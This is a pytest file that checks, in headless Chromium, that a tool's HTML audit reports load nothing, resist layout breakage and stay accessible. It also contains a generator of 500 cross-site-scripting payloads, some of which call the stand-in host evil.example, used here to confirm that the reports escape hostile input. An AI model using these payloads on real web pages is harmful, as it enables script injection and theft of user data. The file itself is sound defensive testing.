"""Pages in headless Chromium: nothing is loaded or runs, all can be read, on any width, in the dark, on paper."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from memaudit.records import WindowRecord
from memaudit.report import sheets
from memaudit.report.compare import Comparison, Contender, _pair, render_comparison
from memaudit.report.kinds.work import KIND as WORK
from memaudit.runs.directory import ReportInput
from tests.report import work_reports
from tests.report.browser import CHROMIUM, DRIVER, Browser, browser
from tests.report.contamination_reports import contamination_report
from tests.report.rendered import extraction_pages, rendered

pytest.importorskip("selenium")
pytestmark = pytest.mark.skipif(not (CHROMIUM and DRIVER), reason="chromium and chromedriver are not installed")

Factory = Callable[..., tuple[dict[str, Any], list[WindowRecord]]]
KINDS = ("extraction", "several", "contamination", "comparison")
OF_WORKS = ("work", "exhibits")
WIDTHS = (400, 800, 1280)
NARROW_TO_WIDE = (*range(320, 720, 40), 719, 720, 721, *range(760, 1120, 40), 1119, 1120, 1121, *range(1160, 1281, 40))
"""Closer where the layout changes."""
GALLERY = sorted((Path(__file__).parents[2] / "reports" / "gallery").glob("*.html"))
ODD_ATTRIBUTES = """
return [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a =>
  a.name.startsWith('on') || ['src', 'style', 'srcdoc', 'action'].includes(a.name)
  || (a.name === 'href' && !a.value.startsWith('#'))).map(a => a.name + '=' + a.value);
"""
BROKEN_WORDS = r"""
const broken = [];
for (const element of document.querySelectorAll(arguments[0])) {
  const texts = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
  for (let text; (text = texts.nextNode()); ) {
    for (const word of text.data.matchAll(/[\p{L}\p{N}]+/gu)) {
      const range = document.createRange();
      range.setStart(text, word.index);
      range.setEnd(text, word.index + word[0].length);
      if (range.getClientRects().length > 1) broken.push(word[0]);
    }
  }
}
return broken;
"""
CHECKS = (Path(__file__).parent / "accessibility.js").read_text(encoding="utf-8")


def test_there_is_a_gallery() -> None:
    assert len(GALLERY) >= 9


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("MEMAUDIT_TEST_LOOPBACK", "1")  # the driver of the browser listens on this machine
        with browser(tmp_path_factory.mktemp("profile")) as started:
            yield started


@pytest.fixture(scope="module")
def pages(factory: Factory, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    one = ReportInput(*factory())
    few = [ReportInput(*factory(name, verdict)) for name, verdict in (("rnn", "found"), ("bert", "inconclusive"))]
    both = [Contender("small", ReportInput(*factory("gpt", strength=0.3))), Contender("large", one)]
    work = work_reports.run()
    works = WORK.page(work)
    made = {
        "extraction": extraction_pages([one]),
        "several": extraction_pages(few, "Two families, one corpus"),
        "contamination": rendered("html", contamination_report()).decode("utf-8"),
        "work": works.decode("utf-8"),
        "exhibits": sheets.render(work, WORK.exhibited(work), ["A1", "B2", "C1"]),
        "comparison": render_comparison(Comparison(both, [_pair(*both)])),
    }
    folder = tmp_path_factory.mktemp("pages")
    for name, page in made.items():
        (folder / f"{name}.html").write_text(page, encoding="utf-8")
    return {name: folder / f"{name}.html" for name in made}


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_is_loaded_and_nothing_complains(chromium: Browser, pages: dict[str, Path], kind: str) -> None:
    chromium.open(pages[kind])
    assert chromium.requests() == [pages[kind].as_uri()]
    assert chromium.console() == []
    assert chromium.run("return document.scripts.length") == 0


def open_unfolded(chromium: Browser, page: Path, **window: Any) -> None:
    chromium.open(page, **window)
    chromium.run("document.querySelectorAll('details').forEach(d => d.open = true)")


def wider_than_the_window(chromium: Browser, page: Path, before: str = "") -> list[int]:
    """Return the widths at which a page with everything unfolded scrolls sideways."""
    open_unfolded(chromium, page)
    chromium.run(before)
    wider = []
    for width in NARROW_TO_WIDE:
        chromium.resize(width)
        if chromium.run("return document.documentElement.scrollWidth") > width:
            wider.append(width)
    return wider


@pytest.mark.parametrize("kind", [*KINDS, *OF_WORKS])
def test_no_sideways_scrolling(chromium: Browser, pages: dict[str, Path], kind: str) -> None:
    assert wider_than_the_window(chromium, pages[kind]) == []


@pytest.mark.parametrize("page", GALLERY, ids=[page.stem for page in GALLERY])
def test_the_gallery_neither_scrolls_sideways_nor_breaks_a_word_of_a_heading(chromium: Browser, page: Path) -> None:
    open_unfolded(chromium, page)
    for width in NARROW_TO_WIDE:
        chromium.resize(width)
        scrolls = chromium.run("return document.documentElement.scrollWidth") > width
        broken = chromium.run(BROKEN_WORDS, "h1, h2, h3, h4, caption, dt, thead th")
        assert (scrolls, broken) == (False, []), width


@pytest.mark.parametrize("page", GALLERY, ids=[page.stem for page in GALLERY])
def test_no_name_is_too_long(chromium: Browser, page: Path) -> None:
    names = "tbody th:not(.num), .facts dd, .exhibit header > *, h1, h3, caption"
    rename = f"document.querySelectorAll('{names}').forEach(e => {{ e.textContent = 'x'.repeat(150) }})"
    assert wider_than_the_window(chromium, page, rename) == []


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("kind", [*KINDS, *OF_WORKS])
def test_accessible_by_computed_styles(chromium: Browser, pages: dict[str, Path], kind: str, dark: bool) -> None:
    for width in (WIDTHS[0], WIDTHS[-1]):
        open_unfolded(chromium, pages[kind], width=width, dark=dark)
        assert chromium.run(CHECKS) == [], (kind, width)


def test_the_checks_find_what_is_wrong(chromium: Browser, tmp_path: Path) -> None:
    """A page spoilt on purpose: every rule must be able to fail."""
    broken = tmp_path / "broken.html"
    broken.write_text(
        "<!doctype html><html><head><title></title></head><body><h1>a</h1><h3 style='color:#999'>pale</h3>"
        "<p id=x>one</p><p id=x>two</p><a href='#nowhere'>link</a><a href='#x'></a><table><tr><td>1</td></tr></table>"
        "<svg role=img aria-labelledby=none></svg><dl><p>no term</p></dl><ul><p>no item</p></ul></body></html>",
        encoding="utf-8",
    )
    chromium.open(broken)
    found = "\n".join(chromium.run(CHECKS))
    for rule in ("lang", "title", "heading", "contrast", "twice", "target", "link", "header", "picture", "dl", "list"):
        assert rule in found, rule


@pytest.mark.parametrize("kind", KINDS)
def test_complete_without_scripts(chromium: Browser, pages: dict[str, Path], kind: str) -> None:
    chromium.open(pages[kind])
    before = chromium.text()
    chromium.open(pages[kind], scripts=False)
    tree = chromium.command("DOM.getDocument", depth=-1)
    node = tree["root"]["nodeId"]
    outer = chromium.command("DOM.getOuterHTML", nodeId=node)["outerHTML"]
    chromium.command("Emulation.setScriptExecutionDisabled", value=False)
    assert chromium.run("return document.body.innerText") == before
    assert re.search(r"Found|Clean|Inconclusive", outer)


@pytest.mark.parametrize("kind", KINDS)
def test_readable_under_the_policy_of_a_ci_viewer(
    chromium: Browser, pages: dict[str, Path], kind: str, tmp_path: Path
) -> None:
    """No style sheet at all, as where ``sandbox; default-src 'none'; style-src 'self'`` is sent with a page."""
    source = pages[kind].read_text(encoding="utf-8")
    policy = "default-src 'none'; style-src 'none'; script-src 'none'"
    strict = tmp_path / "strict.html"
    strict.write_text(re.sub(r"default-src 'none'; style-src 'sha256-[^;]*", policy, source), encoding="utf-8")
    chromium.open(strict)
    assert chromium.run("return getComputedStyle(document.body).margin") != "0px", "the style sheet must be off"
    unstyled = chromium.text()
    chromium.open(pages[kind])
    styled = chromium.text()
    assert set(re.findall(r"\w+", styled.lower())) <= set(re.findall(r"\w+", unstyled.lower()))
    for word in ("found", "difference", "does not show"):
        assert word in unstyled.lower() or kind == "contamination"
    assert chromium.run("return document.querySelectorAll('mark').length") > 0


@pytest.mark.parametrize("kind", ["extraction", "comparison"])
def test_prints(chromium: Browser, pages: dict[str, Path], kind: str) -> None:
    chromium.open(pages[kind], dark=True)
    printed = chromium.pdf()
    assert printed.startswith(b"%PDF-")
    assert len(printed) > 50_000
    chromium.command("Emulation.setEmulatedMedia", media="print")
    ink, paper = chromium.run(
        "const s = getComputedStyle(document.body); return [s.color, getComputedStyle(document.documentElement)"
        ".getPropertyValue('--paper').trim()]"
    )
    shown = chromium.run("return getComputedStyle(document.querySelector('mark')).textDecorationLine")
    chromium.command("Emulation.setEmulatedMedia", media="")
    assert (ink, paper) == ("rgb(0, 0, 0)", "#fff")
    assert shown == "underline"


def payloads() -> list[str]:
    """500 texts that would do something in a page that takes them for markup."""
    heads = [*("<script>{}</script>", "<img src=x onerror={}>", "<svg/onload={}>", '"><script>{}</script>')]
    heads += ["'-{}-'", "javascript:{}", "</title><script>{}</script>", "</style><script>{}</script>"]
    heads += ["<iframe srcdoc='<script>{}</script>'>", "<a href=javascript:{}>x</a>", "<details open ontoggle={}>"]
    heads += ["<body onload={}>", "<input autofocus onfocus={}>", "<style>@import 'http://evil.example/{}';</style>"]
    heads += ["<base href=http://evil.example/{}>", "<link rel=stylesheet href=http://evil.example/{}>"]
    heads += [
        "<meta http-equiv=refresh content='0;url=http://evil.example/{}'>",
        "<form action=http://evil.example/{}>",
    ]
    heads += ["<object data=http://evil.example/{}>", "<math><mtext></p><img src=x onerror={}>", "{{{{ {} }}}}"]
    heads += ["<!--><script>{}</script>", "<![CDATA[<script>{}</script>]]>", "&lt;script&gt;{}&lt;/script&gt;"]
    heads += ["\u202e<script>{}</script>"]
    acts = ["window.owned=1", "alert(1)", "document.title='owned'", "fetch('http://evil.example')", "top.owned=1"]
    acts += ["document.body.innerHTML=''", "eval('owned=1')", "location='http://evil.example'", "print()", "open()"]
    acts += ["document.write(1)", "setTimeout('owned=1')", "history.back()", "import('http://evil.example/x.js')"]
    acts += ["new Worker('x')", "new Image().src='http://evil.example/'", "localStorage.x=1", "owned=1", "confirm(1)"]
    acts += ["document.cookie='x=1'"]
    return [head.format(act) for head in heads for act in acts]


def test_five_hundred_payloads_are_inert_in_every_field(chromium: Browser, factory: Factory, tmp_path: Path) -> None:
    texts = payloads()
    assert len(set(texts)) == 500
    report, records = factory()
    lot = random.Random(0)
    spoilt = [
        replace(
            r,
            document=f"{r.index} {texts[r.index % 500]}",
            source=f"{texts[(3 * r.index + 1) % 500]}:{r.index}",
            domain=texts[r.index % 7],
            prefix_text=texts[(r.index + 100) % 500],
            suffix_text=" ".join(lot.sample(texts, 3)),
            continuation_text=" ".join(lot.sample(texts, 3)),
        )
        for r in (replace(records[i % len(records)], index=i) for i in range(500))
    ]

    def spoil(value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            fixed = (
                "verdict",
                "kind",
                "primary_metric",
                "metric",
                "objective",
                "family",
                "side",
                "unit",
                "schema_version",
            )
            return {k: v if k in fixed else spoil(v, k) for k, v in value.items()}
        if isinstance(value, list):
            return [spoil(v, key) for v in value]
        return f"{value} {lot.choice(texts)}" if isinstance(value, str) else value

    findings = [{**report["findings"][0], "document": text, "source": f"{text}:1"} for text in texts]
    page = tmp_path / "hostile.html"
    page.write_text(
        extraction_pages([ReportInput({**spoil(report), "findings": findings}, spoilt)], texts[0]), encoding="utf-8"
    )
    chromium.open(page)
    chromium.run("document.querySelectorAll('details').forEach(d => d.open = true)")
    assert chromium.requests() == [page.as_uri()]
    assert chromium.console() == []
    assert chromium.run("return [window.owned, document.scripts.length, document.title.includes('script')]") == [
        None,
        0,
        True,
    ]
    tags = "script,img,iframe,object,embed,link,base,form,input,button,audio,video,math,style:not(head style)"
    assert chromium.run(f"return document.querySelectorAll({json.dumps(tags)}).length") == 0
    odd = chromium.run(ODD_ATTRIBUTES)
    assert odd == []
    shown = chromium.text()
    assert sum(text in shown for text in texts if "\u202e" not in text) >= 150
    assert "\u202e" not in shown
